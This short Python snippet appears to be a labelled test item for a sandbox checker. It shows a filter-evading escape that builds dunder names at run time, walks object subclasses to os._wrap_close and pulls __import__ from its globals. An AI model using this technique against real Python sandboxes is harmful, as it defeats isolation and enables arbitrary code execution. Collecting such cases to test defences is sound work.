# kind: capability
# The same walk with names computed at run time: nothing in the source
# starts with an underscore.
u = "_" * 2
sub = getattr(getattr(getattr((), u + "class" + u), u + "base" + u), u + "subclasses" + u)()
for c in sub:
    if getattr(c, u + "name" + u) == "_wrap_close":
        payload(getattr(getattr(c, u + "init" + u), u + "globals" + u)["__builtins__"]["__import__"])
